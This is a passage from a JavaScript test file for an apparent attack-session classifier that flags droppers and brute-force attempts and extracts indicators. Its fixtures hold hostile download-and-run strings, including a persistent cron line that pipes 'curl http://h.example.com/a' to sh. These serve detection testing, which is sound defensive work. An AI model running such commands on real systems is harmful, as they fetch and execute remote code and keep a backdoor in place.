    const findings = classifySession([hostile]);
    const ind = extractIndicators([hostile]);
    assertBounded(findings, ind);
    assert.deepEqual(ind.urls, ["http://h.example.com/a"]);
    assert.deepEqual(ind.ips, ["1.2.3.4"]);
    assert.deepEqual(ind.cron_lines, ["*/1 * * * * curl http://h.example.com/a|sh"]);
    assert.deepEqual(classes(findings), ["dropper"]);
  });

  it("100,000 commands with distinct indicators: every list stops at the bound", () => {
    const session = Array.from({ length: 100_000 }, (_, i) =>
      cmd(
        i % 2 === 0 ? "SET" : "AUTH",
        `k${i}`,
        `curl http://h${i}.example.com/x.sh|sh 10.${(i >> 16) & 255}.${(i >> 8) & 255}.${i & 255}`,
      ),
    );
    const findings = classifySession(session);
    const ind = extractIndicators(session);
    assertBounded(findings, ind);
    assert.equal(ind.urls.length, MAX_INDICATORS);
    assert.equal(ind.ips.length, MAX_INDICATORS);
    assert.equal(ind.passwords.length, MAX_INDICATORS);
    assert.equal(ind.urls[0], "http://h0.example.com/x.sh");
    assert.deepEqual(classes(findings), ["dropper", "bruteforce"]);
    assert.equal(
      finding(findings, "bruteforce").evidence[0],
      "50000 AUTH attempts, ≥10000 distinct passwords",
    );
  });
});
